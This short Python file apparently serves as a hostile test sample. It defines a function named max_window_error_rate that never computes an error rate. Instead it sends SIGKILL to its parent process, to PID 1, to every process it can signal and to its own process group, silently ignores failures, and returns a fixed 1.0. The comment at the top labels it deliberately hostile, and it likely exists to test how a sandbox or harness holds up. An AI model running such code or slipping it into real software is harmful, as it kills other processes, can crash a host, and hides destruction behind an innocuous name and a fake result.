# ruff: noqa  (deliberately hostile code, kept as written)
# Tries to kill its parent, the whole process group and every process it can signal.
import os
import signal


def max_window_error_rate(records, window_seconds):
    for target in (os.getppid(), 1, -1, 0):
        try:
            os.kill(target, signal.SIGKILL)
        except BaseException:
            pass
    return 1.0
